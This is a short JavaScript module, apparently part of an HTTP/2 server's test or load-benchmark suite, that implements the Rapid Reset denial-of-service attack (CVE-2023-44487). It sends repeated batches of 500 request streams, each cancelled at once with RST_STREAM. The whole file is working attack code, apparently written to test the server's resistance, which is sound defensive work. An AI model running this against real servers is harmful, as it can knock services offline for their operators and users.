import {
  END_HEADERS,
  END_STREAM,
  frameHead,
  HEADERS,
  numberFrame,
  RST_STREAM,
  requestHeaders,
} from "../../bench/load/frames.mjs";
import { APPEND, keepWriting } from "../support/http2.mjs";

const CALLS = 500;
const CANCEL = 8;

/** Calls that are cancelled as soon as they are made (CVE-2023-44487). */
export function connectAndAttack(address) {
  const headers = requestHeaders(APPEND, address);
  let stream = 1;
  return keepWriting(address, () => {
    const frames = [];
    for (let count = 0; count < CALLS; count += 1) {
      frames.push(
        frameHead(headers.length, HEADERS, END_HEADERS | END_STREAM, stream),
        headers,
        numberFrame(RST_STREAM, stream, CANCEL),
      );
      stream += 2;
    }
    return Buffer.concat(frames);
  });
}
